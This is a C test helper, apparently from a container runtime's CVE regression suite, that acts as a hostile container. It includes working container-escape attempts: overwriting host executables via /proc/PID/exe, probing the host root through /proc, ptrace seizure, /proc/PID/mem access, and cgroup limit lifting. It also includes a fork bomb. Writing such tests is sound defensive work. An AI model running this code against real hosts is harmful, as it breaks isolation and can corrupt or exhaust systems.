/*
 * What a hostile container does, for tests/cve.bats: `attack KIND ARGS...`.
 *
 *	trace NAME           seizes (ptrace) each process of that name that turns up, and lets none of them go
 *	ambush NAME          looks without a pause for processes of that name, and says "reached" of each whose memory it can open
 *	lease FILE           has a lease on the file and doesn't give it up, so that whoever executes it waits
 *	exchange A B SECONDS lets two files change places for that long
 *	roots PATH           looks for PATH below /proc/PID/root and for folders below /proc/PID/fd of every process, for ever
 *	overwrite SECONDS    tries to write into the executable of every process, through descriptors that name it
 *	limits               mounts its cgroup in a namespace of its own, lifts the limits that it finds there, and moves out if it can
 *	cgroups N            makes cgroups in its own, one in the other, N deep, and enters the last
 *	bomb                 forks, in each process that comes of it, for ever
 *	wait SECONDS         does nothing, for trace (link it to another name)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MICROSECONDS 1000

/* Calls visit with each process but this one, for ever. */
static void watch(void (*visit)(int pid, const char *argument), const char *argument)
{
	for (;; usleep(MICROSECONDS)) {
		DIR *dir = opendir("/proc");
		const struct dirent *entry;

		while (dir && (entry = readdir(dir))) {
			int pid = atoi(entry->d_name);

			if (pid > 0 && pid != getpid())
				visit(pid, argument);
		}
		if (dir)
			closedir(dir);
	}
}

static void seize(int pid, const char *name)
{
	char path[64], comm[64] = "";
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	file = fopen(path, "re");
	if (!file)
		return;
	if (fgets(comm, sizeof(comm), file) && !strncmp(comm, name, strlen(name)) &&
		ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		printf("seized\n");
		fflush(stdout);
	}
	fclose(file);
}

static int trace(char **args)
{
	printf("tracing\n");
	fflush(stdout);
	watch(seize, args[0]);
	return 0;
}

/* Whether the process is called so: asked before and after its memory is opened, which is that of the program it then runs. */
static int is_called(int pid, const char *name)
{
	char path[64], comm[64] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		(void)!read(fd, comm, sizeof(comm) - 1);
		close(fd);
	}
	return !strncmp(comm, name, strlen(name));
}

static int ambush(char **args)
{
	printf("waiting\n");
	fflush(stdout);
	for (int pid = 1; pid > 0; pid = pid % 256 + 1) {
		char path[64];
		int fd;

		if (pid == getpid() || !is_called(pid, args[0]))
			continue;
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		fd = open(path, O_RDWR | O_CLOEXEC);
		if (fd >= 0 && is_called(pid, args[0])) {
			printf("reached\n");
			fflush(stdout);
		}
		if (fd >= 0)
			close(fd);
	}
	return 0;
}

static int lease(char **args)
{
	int fd = open(args[0], O_RDONLY | O_CLOEXEC);

	signal(SIGIO, SIG_IGN);
	if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK) < 0) {
		perror("lease");
		return 1;
	}
	printf("leased\n");
	fflush(stdout);
	for (;;)
		pause();
}

static int exchange(char **args)
{
	time_t end = time(NULL) + atoi(args[2]);

	while (time(NULL) < end)
		if (renameat2(AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE) < 0)
			return 1;
	return 0;
}

/* Says what of the host it can see through another process. */
static void look(int pid, const char *wanted)
{
	char path[PATH_MAX];
	DIR *dir;
	const struct dirent *entry;

	snprintf(path, sizeof(path), "/proc/%d/root%s", pid, wanted);
	if (access(path, F_OK) == 0) {
		printf("found %s\n", path);
		fflush(stdout);
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%.20s/../../../../../../../..%s", pid,
			entry->d_name, wanted);
		if (access(path, F_OK) == 0) {
			printf("found %s\n", path);
			fflush(stdout);
		}
	}
	if (dir)
		closedir(dir);
}

static int roots(char **args)
{
	printf("looking\n");
	fflush(stdout);
	watch(look, args[0]);
	return 0;
}

#define HELD 64

/* The executables seen so far, by descriptors that only name them: to be opened once nothing runs them any more. */
static int held[HELD];
static size_t n_held;

static void try_to_write(int fd, const char *target)
{
	struct mount_attr writable_mount = {.attr_clr = MOUNT_ATTR_RDONLY};
	char path[64];
	int writable;

	/* A clone of a mount that is read-only may be made writable by whoever is privileged in its namespace. */
	mount_setattr(fd, "", AT_EMPTY_PATH, &writable_mount, sizeof(writable_mount));
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (chmod(path, 0777) == 0)
		printf("changed %s\n", target);
	writable = open(path, O_WRONLY | O_CLOEXEC);
	if (writable >= 0 && pwrite(writable, "#!", 2, 0) == 2)
		printf("overwrote %s\n", target);
	if (writable >= 0)
		close(writable);
}

static void grab(int pid, const char *unused)
{
	char path[64], target[PATH_MAX] = "";
	int fd;

	(void)unused;
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	/* A memfd is no file of the host's: its mode may be changed. And the rest is the image's own. */
	if (readlink(path, target, sizeof(target) - 1) < 0 || strstr(target, "busybox") ||
		strstr(target, "attack") || strstr(target, "memfd:") || !strcmp(target, "/loader"))
		return;
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0)
		try_to_write(fd, target);
	if (fd >= 0 && n_held < HELD)
		held[n_held++] = fd;
	else if (fd >= 0)
		close(fd);
}

static void stop(int signum)
{
	(void)signum;
	for (size_t i = 0; i < n_held; i++)
		try_to_write(held[i], "what no longer runs");
	printf("tried %zu\n", n_held);
	fflush(stdout);
	_exit(0);
}

static int overwrite(char **args)
{
	signal(SIGALRM, stop);
	alarm((unsigned int)atoi(args[0]));
	watch(grab, NULL);
	return 0;
}

static int write_to(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	int result = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text) ? 0 : -1;

	if (fd >= 0)
		close(fd);
	return result;
}

static int enter_own_cgroup(void)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ||
		write_to("/proc/self/setgroups", "deny") < 0 || write_to("/proc/self/uid_map", "0 0 1") < 0 ||
		mount("none", "/tmp", "cgroup2", 0, NULL) < 0 || chdir("/tmp") < 0)
		return -1;
	return 0;
}

static int limits(char **args)
{
	static const char *const files[][2] = {{"memory.max", "max"}, {"memory.swap.max", "max"},
		{"memory.oom.group", "0"}, {"cpu.max", "max 100000"}, {"cpu.weight", "10000"},
		{"pids.max", "max"}, {"cgroup.max.descendants", "0"}, {"../cgroup.procs", "0"},
		{"/tmp/../cgroup.procs", "0"}};

	(void)args;
	if (enter_own_cgroup() < 0)
		return 1;
	if (mkdir("/legacy", 0755) == 0 && mount("none", "/legacy", "cgroup", 0, "memory") == 0)
		printf("version 1 %s\n", write_to("/legacy/memory.memsw.limit_in_bytes", "-1") == 0 &&
							 write_to("/legacy/memory.limit_in_bytes", "-1") == 0
						 ? "written"
						 : strerror(errno));
	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++)
		printf("%s %s\n", files[i][0],
			write_to(files[i][0], files[i][1]) == 0 ? "written" : strerror(errno));
	return 0;
}

static int cgroups(char **args)
{
	int n = atoi(args[0]), made = 0;

	if (enter_own_cgroup() < 0)
		return 1;
	while (made < n && mkdir("x", 0755) == 0 && chdir("x") == 0)
		made++;
	printf("%d deep, %s\n", made, write_to("cgroup.procs", "0") == 0 ? "entered" : "not entered");
	return 0;
}

static int wait_a_while(char **args)
{
	sleep((unsigned int)atoi(args[0]));
	return 0;
}

/* A fork that fails is tried again. */
static int bomb(char **args)
{
	while (!args[0])
		fork();
	return 1;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int n;
		int (*run)(char **args);
	} kinds[] = {
		{"trace", 1, trace},
		{"ambush", 1, ambush},
		{"exchange", 3, exchange},
		{"lease", 1, lease},
		{"roots", 1, roots},
		{"overwrite", 1, overwrite},
		{"limits", 0, limits},
		{"cgroups", 1, cgroups},
		{"bomb", 0, bomb},
		{"wait", 1, wait_a_while},
	};

	for (size_t i = 0; argc > 1 && i < sizeof(kinds) / sizeof(*kinds); i++)
		if (!strcmp(argv[1], kinds[i].name) && argc - 2 == kinds[i].n)
			return kinds[i].run(argv + 2);
	fprintf(stderr, "attack: see the top of its source\n");
	return 2;
}
